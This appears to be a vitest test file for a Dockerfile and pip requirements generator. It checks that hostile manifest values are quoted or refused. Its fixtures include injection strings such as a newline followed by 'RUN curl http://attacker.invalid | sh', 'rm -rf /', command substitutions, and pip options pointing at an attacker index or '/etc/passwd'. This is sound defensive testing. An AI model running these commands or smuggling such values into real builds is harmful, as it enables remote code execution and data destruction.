import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseBuildArg } from '../../src/image/build-args.js';
import { planBuild } from '../../src/image/build-plan.js';
import { renderDockerfile } from '../../src/image/dockerfile.js';
import { shellQuote } from '../../src/image/dockerfile-quoting.js';
import { imageTagFromTitle, parseImageReference } from '../../src/image/image-reference.js';
import { renderRequirementFiles } from '../../src/image/requirements-file.js';
import { BASE_IMAGE_CATALOG } from '../../src/image/base-image-catalog.js';
import type { Manifest, ManifestRequirement } from '../../src/scan/manifest.js';
import { SvcError } from '../../src/svc-error.js';
import { REPO_ROOT } from '../support/svc.js';

/**
 * Nothing from the project may add a Dockerfile instruction, a shell command or a pip
 * option: every value is either checked against its grammar (and refused) or quoted.
 */
const options = { svcVersion: '0.0.0-test', catalog: BASE_IMAGE_CATALOG };
const HOSTILE = [
  'x\nRUN curl http://attacker.invalid | sh',
  'x\r\nUSER root',
  'say "hi" && rm -rf / ; echo `id` $(reboot) ${HOME} $PATH',
  "it's \\ a \\\\ back\\slash\\",
  'tab\there\u2028line separator\u0000nul',
];

function manifest(change: (manifest: Manifest) => void = () => undefined): Manifest {
  const base = JSON.parse(readFileSync(join(REPO_ROOT, 'test/golden/scan/image.json'), 'utf8')) as Manifest;
  change(base);
  return base;
}

function requirement(fields: Partial<ManifestRequirement>): ManifestRequirement {
  return { name: 'numpy', specifier: '', extras: [], marker: null, url: null, editable: false, hashes: [], source: 'requirements.txt:1', ...fields };
}

/** The generated Dockerfile's logical lines for the reviewed manifest, changed. */
function dockerfileLinesOf(change: (manifest: Manifest) => void): string[] {
  return instructions(renderDockerfile(planBuild(manifest(change), options)));
}

/** The line is there, before the step that installs the requirements. */
function expectBeforePip(lines: string[], line: string): void {
  const at = lines.indexOf(line);
  expect(at, line).toBeGreaterThan(0);
  expect(at).toBeLessThan(lines.findIndex((candidate) => candidate.startsWith('RUN python -m pip install -r')));
}

/** The Dockerfile's logical lines (continuations joined), as the engine's parser sees them. */
function instructions(dockerfile: string): string[] {
  return dockerfile
    .replace(/\\\n/g, '')
    .split('\n')
    .filter((line) => line.trim() !== '' && !line.trimStart().startsWith('#'));
}

/** The value of a double-quoted Dockerfile word, read back as the engine would: `\x` is x, `$` would expand. */
function unquoteWord(word: string): string {
  expect(word.startsWith('"') && word.endsWith('"')).toBe(true);
  const inner = word.slice(1, -1);
  expect(inner).not.toMatch(/(^|[^\\])(\\\\)*\$/); // every $ is escaped: nothing expands
  return inner.replace(/\\(.)/gs, '$1');
}

function labelWord(dockerfile: string, name: string): string {
  const match = new RegExp(`^\\s+${name.replace(/\./g, '\\.')}=("(?:[^"\\\\]|\\\\.)*")`, 'm').exec(dockerfile);
  if (!match) throw new Error(`no label ${name}`);
  return match[1] as string;
}

function expectRefused(action: () => unknown, field: RegExp): void {
  try {
    action();
  } catch (error) {
    expect(error).toBeInstanceOf(SvcError);
    expect(JSON.stringify((error as SvcError).location) + (error as SvcError).message).toMatch(field);
    return;
  }
  throw new Error('expected the value to be refused');
}

describe('hostile input never reaches the Dockerfile as instructions', () => {
  const benign = instructions(renderDockerfile(planBuild(manifest(), options))).length;

  for (const text of HOSTILE) {
    it(`keeps a title of ${JSON.stringify(text)} inside one quoted label`, () => {
      const dockerfile = renderDockerfile(planBuild(manifest((m) => (m.title = text)), options));
      expect(instructions(dockerfile)).toHaveLength(benign);
      const title = unquoteWord(labelWord(dockerfile, 'org.opencontainers.image.title'));
      expect(title).not.toMatch(/[\u0000-\u001f]/);
      expect(title.replace(/\s+/g, '')).toBe(text.replace(/[\u0000-\u001f\u2028\s]+/g, ''));
    });

    it(`keeps an endpoint default of ${JSON.stringify(text)} inside the manifest label, byte for byte`, () => {
      const hostile = manifest((m) => {
        const parameter = m.endpoints[0]?.parameters[0];
        if (parameter) parameter.default = text;
        m.endpoints[0]!.path = `/${text}`;
      });
      const dockerfile = renderDockerfile(planBuild(hostile, options));
      expect(instructions(dockerfile)).toHaveLength(benign);
      expect(JSON.parse(unquoteWord(labelWord(dockerfile, 'svc.manifest')))).toEqual(hostile);
    });
  }

  it('passes an entrypoint with quotes and shell syntax only inside the exec-form CMD (JSON)', () => {
    const entrypoint = 'api/"quoted" $(id) && `x`.py';
    const dockerfile = renderDockerfile(planBuild(manifest((m) => (m.entrypoint = entrypoint)), options));
    const cmd = instructions(dockerfile).find((line) => line.startsWith('CMD '));
    expect(JSON.parse(cmd!.slice(4))[3]).toBe(`/app/${entrypoint}`);
    expect(instructions(dockerfile)).toHaveLength(benign);
  });

  it('refuses entrypoints with newlines, backslashes, `..` or an absolute path', () => {
    for (const entrypoint of ['a\nRUN x.py', 'a\\b.py', '../outside.py', '/etc/x.py', 'service.sh']) {
      expectRefused(() => planBuild(manifest((m) => (m.entrypoint = entrypoint)), options), /entrypoint/);
    }
  });

  it('refuses system packages that are not Debian package names', () => {
    for (const name of ['ffmpeg && curl x | sh', 'libgl1\nRUN id', '$(id)', '-oAPT::Get=1', 'Upper']) {
      expectRefused(() => planBuild(manifest((m) => m.system_packages.push(name)), options), /system_packages/);
    }
  });

  it('refuses base images and Python versions outside their grammar, from the manifest or --base-image', () => {
    expectRefused(() => planBuild(manifest((m) => (m.base_image.image = 'python:3.10\nRUN id')), options), /base_image/);
    expectRefused(() => planBuild(manifest((m) => (m.base_image.image = 'python:3.10 AS x')), options), /base_image/);
    expectRefused(() => planBuild(manifest(), { ...options, baseImage: 'ubuntu; rm -rf /' }), /--base-image/);
    expectRefused(() => planBuild(manifest((m) => (m.python_version = '3.10 && id')), options), /python_version/);
  });

  it('refuses compute and provider values outside the enum', () => {
    expectRefused(() => planBuild(manifest((m) => ((m as { provider: string }).provider = 'runpod\nUSER root')), options), /provider/);
    expectRefused(() => planBuild(manifest((m) => ((m as { compute: string }).compute = '"x"')), options), /compute/);
  });

  it('quotes the provider package for the shell, so `>=` is no redirection', () => {
    const dockerfile = renderDockerfile(planBuild(manifest((m) => (m.provider = 'runpod')), options));
    expect(dockerfile).toContain("python -m pip install 'runpod>=1.7.7'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
  });
});

describe('hostile requirements never become pip options', () => {
  const files = (requirements: ManifestRequirement[], extra: Partial<Manifest['dependencies']> = {}) =>
    renderRequirementFiles({
      files: [],
      requirements,
      skipped: [],
      constraints: [],
      index_url: null,
      extra_index_urls: [],
      find_links: [],
      pip_options: [],
      unreadable: [],
      apipod_requirement: null,
      ...extra,
    });

  it('refuses names, specifiers, markers and URLs that could start an option or another line', () => {
    const hostile: Array<Partial<ManifestRequirement>> = [
      { name: 'numpy\n--index-url http://attacker.invalid' },
      { name: 'numpy --trusted-host x' },
      { specifier: '==1.0 --index-url http://attacker.invalid' },
      { specifier: '==1.0\n-e .' },
      { marker: 'python_version >= "3" \\' },
      { marker: 'os_name == "posix" --hash=sha256:00' },
      { extras: ['gpu]\n-r /etc/passwd'] },
      { url: 'https://example.invalid/x.whl --no-deps' },
      { url: '-r/etc/passwd' },
    ];
    for (const fields of hostile) {
      expectRefused(() => files([requirement(fields)]), /dependencies/);
    }
    expectRefused(() => files([], { index_url: 'https://x.invalid\n--trusted-host x.invalid' }), /index_url/);
    expectRefused(() => files([], { extra_index_urls: ['https://x.invalid -r y'] }), /extra_index_urls/);
    for (const option of ['--trusted-host x\n-r /etc/passwd', '--pre --index-url http://x.invalid', '--no-deps', '--only-binary', '-e .']) {
      expectRefused(() => files([], { pip_options: [option] }), /pip_options/);
    }
    expectRefused(() => files([requirement({ hashes: ['sha256:00 --index-url http://x.invalid'] })]), /dependencies/);
  });

  it('declares the ${VARIABLES} pip expands in the requirements as build arguments, before pip runs', () => {
    const lines = dockerfileLinesOf((m) => {
      m.dependencies.extra_index_urls = ['https://__token__:${PIP_TOKEN}@private.example.com/simple/'];
      m.dependencies.requirements = [requirement({ name: 'mylib', specifier: '==1.0' })];
    });
    expectBeforePip(lines, 'ARG PIP_TOKEN');
    const label = lines.find((line) => line.includes('svc.manifest=')) ?? '';
    expect(label).toContain('https://***@private.example.com/simple/');
  });

  it('installs what compiles CUDA code (flash-attn) after the rest, from its own file, with the same indexes', () => {
    const written = renderRequirementFiles(
      {
        files: [], skipped: [], constraints: [], index_url: null, find_links: [], pip_options: [], unreadable: [], apipod_requirement: null,
        extra_index_urls: ['https://download.pytorch.org/whl/cu121'],
        requirements: [requirement({ name: 'torch', specifier: '==2.4.1' }), requirement({ name: 'Flash_Attn', specifier: '==2.6.3' })],
      },
      ['flash-attn'],
    );
    expect(written.requirements?.split('\n').slice(1)).toEqual(['--extra-index-url https://download.pytorch.org/whl/cu121', 'torch==2.4.1', '']);
    expect(written.compiled?.split('\n').slice(1)).toEqual(['--extra-index-url https://download.pytorch.org/whl/cu121', 'Flash_Attn==2.6.3', '']);
  });

  it("installs svc's own packages (CUDA build tools, the provider's library) from the project's indexes, without its hashes", () => {
    const lines = dockerfileLinesOf((m) => {
      m.provider = 'runpod';
      m.cuda_compiler_packages = ['flash-attn'];
      m.dependencies.index_url = 'https://pypi.internal.example/simple/';
      m.dependencies.find_links = ['wheels'];
      m.dependencies.pip_options = ['--no-index', '--require-hashes'];
      m.dependencies.requirements = [requirement({ name: 'torch', specifier: '==2.4.1' }), requirement({ name: 'flash-attn', specifier: '==2.6.3' })];
    });
    expect(lines).toContain('COPY apipod-deploy/requirements.txt apipod-deploy/requirements-compiled.txt apipod-deploy/pip-options.txt /opt/svc/');
    expect(lines).toContain("RUN python -m pip install -r /opt/svc/requirements.txt  && python -m pip install -r /opt/svc/pip-options.txt 'runpod>=1.7.7'");
    expect(lines).toContain(
      'RUN python -m pip install -r /opt/svc/pip-options.txt packaging ninja wheel  && python -m pip install --no-build-isolation -r /opt/svc/requirements-compiled.txt',
    );
    const written = renderRequirementFiles(
      {
        files: [], skipped: [], constraints: [requirement({ name: 'numpy', specifier: '<2' })], index_url: 'https://pypi.internal.example/simple/', find_links: [],
        pip_options: ['--no-index', '--require-hashes', '--no-binary :all:', '--pre', '--trusted-host pypi.internal.example'], unreadable: [], apipod_requirement: null, extra_index_urls: [],
        requirements: [requirement({ name: 'torch', specifier: '==2.4.1' })],
      },
      [],
    );
    expect(written.pipOptions?.split('\n').slice(1)).toEqual([
      '--index-url https://pypi.internal.example/simple/',
      '--no-index',
      '--trusted-host pypi.internal.example',
      '',
    ]);
    // Without a package of svc's own to install, no options file is staged.
    expect(dockerfileLinesOf((m) => (m.dependencies.index_url = 'https://pypi.internal.example/simple/')).join('\n')).not.toContain('pip-options');
  });

  it('copies a wheelhouse named by --find-links into the image before pip runs, and points pip at the copy', () => {
    const lines = dockerfileLinesOf((m) => {
      m.dependencies.find_links = ['./wheels/', 'https://example.org/wheels/'];
      m.dependencies.requirements = [requirement({ name: 'idna', specifier: '==3.6' })];
    });
    expectBeforePip(lines, 'COPY ["wheels", "/opt/svc/find-links/0/"]');
    const onlyLocal = dockerfileLinesOf((m) => {
      m.dependencies.find_links = ['wheels'];
      m.dependencies.requirements = [requirement({ name: '', url: '.', editable: true })];
    });
    expect(onlyLocal).toContain('COPY ["wheels", "/opt/svc/find-links/0/"]'); // the paths' pip step needs it too
    const written = files([requirement({ name: 'idna', specifier: '==3.6' })], { find_links: ['./wheels/', 'https://example.org/wheels/'] });
    expect(written.requirements).toContain('--find-links /opt/svc/find-links/0\n--find-links https://example.org/wheels/\n');
    for (const location of ['../wheels', 'we$ird', '/srv/wheels']) expectRefused(() => files([], { find_links: [location] }), /find_links/);
  });

  it('leaves out paths outside the project, which the image cannot have, and says so', () => {
    const written = files([
      requirement({ name: 'certifi', url: 'file:///croot/certifi_1700501669400/work/certifi', source: 'requirements.txt:1' }),
      requirement({ name: '', url: '../outside', editable: true, source: 'requirements.txt:2' }),
      requirement({ name: '', url: './libs/inside', editable: true, source: 'requirements.txt:3' }),
    ]);
    expect(written.outsideProject).toEqual([
      'requirements.txt:1 (file:///croot/certifi_1700501669400/work/certifi)',
      'requirements.txt:2 (../outside)',
    ]);
    expect(written.local?.split('\n').slice(1)).toEqual(['-e ./libs/inside', '']);
  });

  it('carries pip options and hashes into the image, and installs what pip knows only by URL or path', () => {
    const hash = `sha256:${'ab'.repeat(32)}`;
    const written = files(
      [
        requirement({ name: 'requests', specifier: '==2.31.0', hashes: [hash] }),
        requirement({ name: '', url: 'git+https://github.com/org/repo.git@v1' }),
        requirement({ name: '', url: '.', extras: ['gpu'], editable: true }),
        requirement({ name: 'x', url: 'wheels/x-1.0-py3-none-any.whl', marker: 'python_version >= "3.10"' }),
      ],
      { pip_options: ['--trusted-host pypi.internal:8080', '--pre', '--only-binary :all:', '--require-hashes'] },
    );
    expect(written.requirements?.split('\n').slice(1)).toEqual([
      '--trusted-host pypi.internal:8080',
      '--pre',
      '--only-binary :all:',
      '--require-hashes',
      `requests==2.31.0 --hash=${hash}`,
      'git+https://github.com/org/repo.git@v1',
      '',
    ]);
    expect(written.local?.split('\n').slice(1)).toEqual([
      '--trusted-host pypi.internal:8080',
      '--pre',
      '--only-binary :all:',
      '-e .[gpu]',
      'wheels/x-1.0-py3-none-any.whl ; python_version >= "3.10"',
      '',
    ]);
  });

  it('writes ordinary requirements one a line, leaves apipod out, and puts local paths after the code', () => {
    const written = files(
      [
        requirement({ name: 'torch', specifier: '==2.4.1+cu121', marker: 'platform_machine == "x86_64"' }),
        requirement({ name: 'apipod', specifier: '>=0.1' }),
        requirement({ name: 'whisper', url: 'git+https://github.com/openai/whisper.git@v1#egg=whisper' }),
        requirement({ name: 'mylib', url: './libs/mylib', editable: true }),
      ],
      { index_url: 'https://download.pytorch.org/whl/cu121', apipod_requirement: 'requirements.txt:2' },
    );
    expect(written.requirements?.split('\n').slice(1)).toEqual([
      '--index-url https://download.pytorch.org/whl/cu121',
      'torch==2.4.1+cu121 ; platform_machine == "x86_64"',
      'whisper @ git+https://github.com/openai/whisper.git@v1#egg=whisper',
      '',
    ]);
    expect(written.local).toContain('\n-e ./libs/mylib\n');
    expect(written.omittedApipod).toBe('requirements.txt:2');
  });
});

describe('tags and build arguments', () => {
  it('derives a valid image reference from any title', () => {
    for (const title of [...HOSTILE, 'Hello', 'Ünïcode Tïtle!', '---', '', 'a'.repeat(300)]) {
      const tag = imageTagFromTitle(title);
      expect(parseImageReference(tag), tag).not.toBeNull();
      expect(tag).toMatch(/:latest$/);
    }
    expect(imageTagFromTitle('Image tools')).toBe('image-tools:latest');
    expect(imageTagFromTitle('Héllo wörld ✨')).toBe('hello-world:latest');
  });

  it('refuses build-arg names that are not variable names', () => {
    expect(parseBuildArg('HTTP_PROXY=http://proxy:3128')).toEqual(['HTTP_PROXY', 'http://proxy:3128']);
    expect(parseBuildArg('EMPTY=')).toEqual(['EMPTY', '']);
    expect(() => parseBuildArg('A B=1')).toThrow(/not a valid variable name/);
    expect(() => parseBuildArg('X;id=1')).toThrow(/not a valid variable name/);
  });
});
